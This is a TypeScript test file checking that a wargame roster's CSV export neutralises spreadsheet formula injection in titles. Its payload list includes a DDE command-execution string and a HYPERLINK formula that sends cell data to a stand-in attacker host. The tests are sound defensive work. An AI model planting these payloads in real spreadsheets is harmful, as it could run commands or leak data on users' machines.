import { expect, test } from 'vitest';
import { rulebook } from '@/lib/systems/lost-battles/rulebook';
import type { RosterContents } from './roster-contents';
import { toRosterCsv } from './roster-text';

const contentsWith = (title: string): RosterContents => ({
  title,
  subtitle: '',
  rulebook,
  tables: [],
  facts: [],
  findings: [],
  say: ({ code }) => code,
  licence: null,
  language: 'en',
  engine: '0.0',
  published: null,
});

/** The cells of the line that holds the title, as a table program parts it at commas. */
const titleCell = (title: string): string => {
  const lines = toRosterCsv(contentsWith(title)).split('\r\n');
  expect(lines).toHaveLength(4);
  return /^[^,]*,,("(?:[^"]|"")*"|[^,"]*),/.exec(lines[1] ?? '')?.[1]?.replace(/^"|"$/g, '') ?? '';
};

const PAYLOADS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n\r\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '  ＝1',
  '|cmd',
  '%0a=1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '","=1+1',
  'Army\n=1+1',
  'Army\r\n=1+1',
  'Army\u2028=1+1',
  'Army\t=1+1',
  'Army;=1+1',
  'Army; ＝1+1',
];

/** As a spreadsheet sees a cell: leading blanks cut off, and split where some programs split. */
const STARTS_FORMULA = /(^|[;\t\r\n\u2028\u2029])[\s\p{Cc}\p{Cf}\p{Z}]*[=+\-@|%＝＋－＠]/u;

test.each(PAYLOADS)('%j is no formula in a table', payload => {
  const cell = titleCell(payload);
  expect(cell).not.toMatch(STARTS_FORMULA);
  expect(cell).not.toMatch(/[\t\r\n\v\f\u0085\u2028\u2029]/);
});

test.each(['Cannae', '3 × Guards', 'a = b', 'Hamilcar, son of Hanno', 'd’Erlon – I Corps'])(
  '%j stays as it is',
  title => expect(titleCell(title)).toBe(title),
);
